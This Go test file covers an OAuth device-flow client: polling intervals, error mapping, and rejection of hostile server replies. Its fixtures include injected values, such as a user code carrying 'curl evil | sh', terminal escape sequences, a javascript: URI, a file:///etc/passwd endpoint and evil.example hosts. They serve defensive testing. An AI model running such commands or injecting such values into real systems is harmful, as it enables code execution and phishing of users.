package userclient

import (
	"context"
	"errors"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"
)

// RFC 8628 from the request to the tokens: PKCE, the pace that the issuer asks
// for, and what it calls each end.
func TestByDevice(t *testing.T) {
	t.Parallel()
	s := func(n ...int) (out []time.Duration) {
		for _, i := range n {
			out = append(out, time.Duration(i)*time.Second)
		}
		return out
	}
	down := answer{status: http.StatusServiceUnavailable, body: "<html>"}
	for name, c := range map[string]struct {
		answers []answer
		slept   []time.Duration
		err     error
	}{
		"at once":            {nil, s(5), nil},
		"pending":            {[]answer{oauth("authorization_pending"), oauth("authorization_pending")}, s(5, 5, 5), nil},
		"slow down":          {[]answer{oauth("slow_down"), oauth("authorization_pending"), oauth("slow_down")}, s(5, 10, 10, 15), nil},
		"an outage":          {[]answer{oauth("authorization_pending"), down, down, oauth("authorization_pending")}, s(5, 5, 10, 20, 5), nil},
		"too many requests":  {[]answer{{status: 429, body: map[string]any{"error": "slow"}}}, s(5, 10), nil},
		"denied":             {[]answer{oauth("access_denied")}, s(5), ErrDenied},
		"expired":            {[]answer{oauth("expired_token")}, s(5), ErrExpired},
		"nobody comes":       {slices.Repeat([]answer{oauth("authorization_pending")}, 200), nil, ErrExpired},
		"another's code":     {[]answer{oauth("invalid_grant")}, s(5), &AnswerError{}},
		"not JSON":           {[]answer{{status: 200, body: "<html>"}}, s(5), ErrHostile},
		"no token":           {[]answer{{status: 200, body: map[string]any{"token_type": "Bearer"}}}, s(5), ErrHostile},
		"another token type": {[]answer{{status: 200, body: map[string]any{"access_token": "a", "token_type": "DPoP"}}}, s(5), ErrHostile},
		"token with a line":  {[]answer{{status: 200, body: map[string]any{"access_token": "a\nb", "token_type": "Bearer"}}}, s(5), ErrHostile},
		"ID token of another issuer": {[]answer{{status: 200, body: map[string]any{"access_token": "a", "token_type": "Bearer",
			"id_token": idToken(map[string]any{"iss": "https://evil.example", "aud": ClientID, "exp": 4e9, "sub": "x"})}}}, s(5), ErrHostile},
		"ID token for another client": {[]answer{{status: 200, body: map[string]any{"access_token": "a", "token_type": "Bearer", "id_token": "x.y.z"}}}, s(5), ErrHostile},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			f := newFake(t)
			f.script(c.answers...)
			var shown []Prompt
			got, err := f.client().ByDevice(t.Context(), []string{"openid", "email"}, "node\x1b[31m-7", func(p Prompt) error {
				shown = append(shown, p)
				return nil
			})
			if len(shown) != 1 || shown[0].Code != "WDJB-MJHT" || shown[0].URL != f.srv.URL+"/device" || !shown[0].Expires.Equal(newClock().at.Add(10*time.Minute)) {
				t.Errorf("shown: %+v", shown)
			}
			if f.form.Get("scope") != "openid email" || f.form.Get("device_name") != "node[31m-7" || f.form.Get("code_challenge_method") != "S256" {
				t.Errorf("asked: %v", f.form)
			}
			if a, answered := c.err.(*AnswerError); answered {
				if !errors.As(err, &a) {
					t.Fatal(err)
				}
			} else if !errors.Is(err, c.err) {
				t.Fatalf("%v, not %v", err, c.err)
			}
			if c.slept != nil && !slices.Equal(f.clock.slept, c.slept) {
				t.Errorf("waited %v, not %v", f.clock.slept, c.slept)
			}
			if c.err == nil && (got.Access == "" || got.Refresh == "" || got.Who.Email != "li@example.com" || got.Who.Connector != "acme") {
				t.Errorf("got %+v", got)
			}
			if c.err != nil && got.Access != "" {
				t.Error("a token beside an error")
			}
			if total := f.clock.now().Sub(newClock().at); total > 10*time.Minute {
				t.Errorf("polled for %s", total)
			}
		})
	}
}

// ux 3.4: what a hostile server says is neither shown nor opened.
func TestByDeviceHostile(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]map[string]any{
		"another host":              {"verification_uri": "https://evil.example/device"},
		"another port":              {"verification_uri": "http://127.0.0.1:1/device"},
		"another scheme":            {"verification_uri": "javascript:alert(1)"},
		"a name before the host":    {"verification_uri": "USERINFO"},
		"escape sequence in URL":    {"verification_uri": "ESCAPE"},
		"no address":                {"verification_uri": ""},
		"complete elsewhere":        {"verification_uri_complete": "https://evil.example/device?user_code=WDJB-MJHT"},
		"escape sequence in code":   {"user_code": "\x1b]0;pwned\x07WDJB"},
		"new line in code":          {"user_code": "WDJB\nRun: curl evil | sh"},
		"a whole sentence for code": {"user_code": strings.Repeat("A", 500)},
		"no code":                   {"user_code": ""},
		"no device code":            {"device_code": ""},
		"no life":                   {"expires_in": 0},
		"huge":                      {"padding": strings.Repeat("x", 2<<20)},
		"another type":              {"user_code": []int{1}},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			f := newFake(t)
			for k, v := range c {
				switch v {
				case "USERINFO":
					v = strings.Replace(f.srv.URL, "http://", "http://trusted@", 1) + "/device"
				case "ESCAPE":
					v = f.srv.URL + "/device\x1b[2J"
				}
				f.device[k] = v
			}
			_, err := f.client().ByDevice(t.Context(), nil, "", func(p Prompt) error {
				t.Errorf("shown: %+v", p)
				return nil
			})
			if !errors.Is(err, ErrHostile) {
				t.Errorf("%v", err)
			}
			if strings.ContainsAny(err.Error(), "\x1b\x07\n") {
				t.Errorf("the error itself: %q", err)
			}
			if len(f.requests) > 0 {
				t.Error("the token endpoint was asked")
			}
		})
	}
}

// Ctrl-C ends the waiting.
func TestByDeviceCancelled(t *testing.T) {
	t.Parallel()
	f := newFake(t)
	f.script(slices.Repeat([]answer{oauth("authorization_pending")}, 10)...)
	ctx, cancel := context.WithCancel(t.Context())
	f.clock.hook = func(n int) {
		if n == 3 {
			cancel()
		}
	}
	_, err := f.client().ByDevice(ctx, nil, "", func(Prompt) error { return nil })
	if !errors.Is(err, context.Canceled) || len(f.requests) != 2 {
		t.Errorf("%v after %d polls", err, len(f.requests))
	}
}

// Discovery that names other hosts, another issuer, or leads elsewhere is not
// followed, and no credential is sent anywhere.
func TestDiscoverHostile(t *testing.T) {
	t.Parallel()
	other := http.Header{"Location": {"https://evil.example/"}}
	for name, change := range map[string]func(f *fake){
		"another issuer":      func(f *fake) { f.meta["issuer"] = "https://evil.example" },
		"issuer with a slash": func(f *fake) { f.meta["issuer"] = f.srv.URL + "/" },
		"token elsewhere":     func(f *fake) { f.meta["token_endpoint"] = "https://evil.example/token" },
		"no token endpoint":   func(f *fake) { delete(f.meta, "token_endpoint") },
		"device elsewhere":    func(f *fake) { f.meta["device_authorization_endpoint"] = "https://evil.example/d" },
		"revoke elsewhere":    func(f *fake) { f.meta["revocation_endpoint"] = "https://evil.example/r" },
		"authorize elsewhere": func(f *fake) { f.meta["authorization_endpoint"] = "file:///etc/passwd" },
		"huge":                func(f *fake) { f.meta["x"] = strings.Repeat("x", maxAnswer) },
		"redirect":            func(f *fake) { f.srv.Config.Handler = replying(answer{302, other, nil}) },
		"a list":              func(f *fake) { f.srv.Config.Handler = replying(answer{200, "[]", nil}) },
	} {
		f := newFake(t)
		change(f)
		if _, err := f.client().discover(t.Context()); !errors.Is(err, ErrHostile) {
			t.Errorf("%s: %v", name, err)
		}
		if len(f.requests)+len(f.calls) > 0 {
			t.Errorf("%s: something else was asked", name)
		}
	}
	f := newFake(t)
	f.srv.Config.Handler = replying(answer{502, "<h1>\x1b[31mBad gateway", nil})
	if _, err := f.client().discover(t.Context()); !errors.Is(err, ErrUnreachable) || strings.Contains(err.Error(), "\x1b") {
		t.Errorf("a gateway that is down: %q", err)
	}
	f.srv.Close()
	if _, err := f.client().discover(t.Context()); !errors.Is(err, ErrUnreachable) {
		t.Errorf("nobody there: %v", err)
	}
}

func replying(a answer) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { reply(w, a) })
}
